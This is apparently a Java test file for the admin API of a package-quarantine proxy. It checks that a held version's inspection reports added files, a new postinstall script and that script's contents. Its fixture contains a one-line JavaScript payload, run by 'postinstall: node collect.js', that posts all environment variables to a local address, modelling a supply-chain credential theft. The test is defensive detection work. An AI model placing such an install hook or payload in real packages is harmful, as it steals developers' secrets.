package dev.lazaret.proxy.admin;

import static dev.lazaret.proxy.admin.AdminApiFixture.VIEWER;
import static dev.lazaret.proxy.admin.AdminApiFixture.YEAR;
import static dev.lazaret.proxy.admin.AdminApiFixture.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.lazaret.proxy.testing.GeneratedPackage;
import java.time.Duration;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;

/**
 * Through the real server: a held version's tarball is inspected in the background and its
 * explanation's {@code files} shows what changed since the previous release, install script
 * and the file it runs included.
 */
class AdminInspectionTest extends AdminApiTestBase {

  private static final String PAYLOAD =
      "require('https').request('http://127.0.0.1:9/', {method: 'POST'})"
          + ".end(JSON.stringify(process.env));\n";

  @Test
  void aHeldVersionThatAddsAPostinstallShowsTheAddedFileAndTheScript() throws Exception {
    GeneratedPackage lib = gen.pkg("steady-lib").maintainer("alice")
        .version("1.0.0", v -> v.publishedAgo(YEAR.multipliedBy(3)))
        .version("1.1.0", v -> v.publishedAgo(YEAR).file("README.md", "# steady\n"))
        .version("1.2.0", v -> v.publishedAgo(Duration.ofDays(3)).publishedBy("qz7x0vk3")
            .file("README.md", "# steady\nnow faster\n").file("collect.js", PAYLOAD)
            .script("postinstall", "node collect.js"))
        .done();
    api = AdminApiFixture.start(data, lib);
    assertThat(api.proxy.get("/steady-lib/1.2.0").statusCode()).isEqualTo(403);

    JsonNode files = inspectedFiles("/api/explain/steady-lib/1.2.0");

    assertThat(files.path("against").asText()).isEqualTo("1.1.0");
    assertThat(files.path("added")).hasSize(1);
    assertThat(files.path("added").get(0).path("path").asText()).isEqualTo("collect.js");
    assertThat(files.path("added").get(0).path("size").asLong()).isEqualTo(PAYLOAD.length());
    assertThat(files.path("installScripts").path("added").path("postinstall").asText())
        .isEqualTo("node collect.js");
    assertThat(files.path("scriptFiles").path("collect.js").asText()).isEqualTo(PAYLOAD);
    JsonNode readme = null;
    for (JsonNode c : files.path("changed")) {
      if (c.path("path").asText().equals("README.md")) {
        readme = c;
      }
    }
    assertThat(readme).isNotNull();
    assertThat(readme.path("diff").asText()).contains("+now faster");
    assertThat(files.path("incomplete").isNull()).isTrue();
  }

  @Test
  void aVersionNeverHeldIsInspectedOnceAnAnalystAsksAboutIt() throws Exception {
    GeneratedPackage lib = gen.pkg("old-lib").maintainer("alice")
        .version("1.0.0", v -> v.publishedAgo(YEAR.multipliedBy(3)))
        .version("1.1.0", v -> v.publishedAgo(YEAR).file("LICENSE", "MIT\n"))
        .done();
    api = AdminApiFixture.start(data, lib);
    JsonNode before = json(api.get("/api/explain/old-lib/1.1.0", VIEWER), 200).path("diff");
    assertThat(before.path("files").isObject()).as("not inspected before it was asked about")
        .isFalse();

    JsonNode files = inspectedFiles("/api/explain/old-lib/1.1.0");

    assertThat(files.path("against").asText()).isEqualTo("1.0.0");
    assertThat(files.path("added").get(0).path("path").asText()).isEqualTo("LICENSE");
    assertThat(files.path("installScripts").path("added")).isEmpty();
  }

  /**
   * The explanation's {@code files} once every inspection queued so far has finished (they run
   * in the background, queued when a hold is recorded or an analyst asks).
   */
  private JsonNode inspectedFiles(String path) throws Exception {
    api.quarantine(); // holds recorded, so new holds have queued their inspections
    api.proxy.lazaret().inspections().idle().get(30, TimeUnit.SECONDS);
    JsonNode files = json(api.get(path, VIEWER), 200).path("diff").path("files");
    assertThat(files.isObject()).as("files of %s inspected", path).isTrue();
    return files;
  }
}
